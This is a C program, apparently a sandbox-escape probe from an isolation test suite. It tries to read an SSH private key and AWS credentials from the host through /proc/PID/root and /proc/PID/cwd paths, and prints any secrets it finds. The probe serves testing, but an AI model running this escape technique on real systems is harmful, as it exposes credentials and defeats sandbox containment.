// attack: escape: read the planted secrets through other processes' roots and cwds (/proc/1/root/…, /proc/PID/root/…, /proc/PID/cwd/…), where an unhidden view of the host might show through
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

// Prints what a read of PATH gave (the secret itself, if it was readable: that is the damage).
static int dump(const char *label, const char *path) {
    char buf[512];
    int fd = open(path, O_RDONLY);
    if (fd < 0) { printf("%s: open(%s) -> %s\n", label, path, strerror(errno)); fflush(stdout); return 0; }
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n < 0) { printf("%s: read(%s) -> %s\n", label, path, strerror(errno)); fflush(stdout); return 0; }
    buf[n] = 0;
    printf("%s: %s -> %zd bytes: %s\n", label, path, n, buf);
    fflush(stdout);
    return n > 0;
}

// $SECRETS, or (the default profile drops every variable named *SECRET*) the fixture's paths under $HOME.
static const char *secret_paths(void) {
    static char buf[8192];
    const char *s = getenv("SECRETS"), *h = getenv("HOME");
    if (s) return s;
    if (!h) return NULL;
    snprintf(buf, sizeof buf, "%s/.ssh/id_ed25519:%s/.aws/credentials", h, h);
    return buf;
}

int main(void) {
    const char *secrets = secret_paths();
    if (!secrets) { fprintf(stderr, "SECRETS and HOME not set\n"); return 2; }
    char list[8192];
    snprintf(list, sizeof list, "%s", secrets);
    char *save = NULL;
    for (char *s = strtok_r(list, ":", &save); s; s = strtok_r(NULL, ":", &save)) {
        char path[8192];
        snprintf(path, sizeof path, "/proc/1/root%s", s);
        dump("pid 1's root", path);
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            if (e->d_name[0] < '1' || e->d_name[0] > '9' || strcmp(e->d_name, "1") == 0) continue;
            snprintf(path, sizeof path, "/proc/%s/root%s", e->d_name, s);
            if (dump("another pid's root", path)) continue;
            // Relative to its cwd: walk up to / with enough "..".
            snprintf(path, sizeof path, "/proc/%s/cwd/../../../../../../../../..%s", e->d_name, s);
            dump("another pid's cwd", path);
        }
        if (d) closedir(d);
        snprintf(path, sizeof path, "/proc/self/root%s", s);
        dump("own root", path);
    }
    return 0;
}
